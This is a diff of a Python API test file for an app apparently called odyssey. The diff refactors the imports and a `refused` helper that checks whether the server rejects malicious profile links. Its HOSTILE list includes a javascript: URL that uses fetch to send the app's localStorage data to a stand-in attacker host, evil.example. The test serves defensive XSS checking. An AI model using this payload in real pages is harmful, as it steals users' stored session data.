@@ -7,15 +7,15 @@ object's video link); every visitor who clicks it runs that script in the node's
 from __future__ import annotations
 
 import uuid
-from typing import Any
 
+import httpx
 import pytest
-from api_harness import Api, Person
 
 from odyssey.core import ids
 from odyssey.core.links import InvalidLink
 from odyssey.core.permissions import AttributeScope
 from odyssey.db.attributes import AttributeRef
+from tests.api.api_harness import Api, Person
 
 HOSTILE = [
     "javascript:fetch('//evil.example/?'+localStorage.getItem('odyssey'))",
@@ -26,9 +26,11 @@ HOSTILE = [
 ]
 
 
-def refused(response: Any) -> bool:
-    body = response.json()
-    return response.status_code == 400 and body["error"]["reason"] == "invalid_link"
+def refused(response: httpx.Response) -> bool:
+    if response.status_code != 400:
+        return False
+    reason: str = response.json()["error"]["reason"]
+    return reason == "invalid_link"
 
 
 async def _profile_link(api: Api, person: Person) -> str | None:
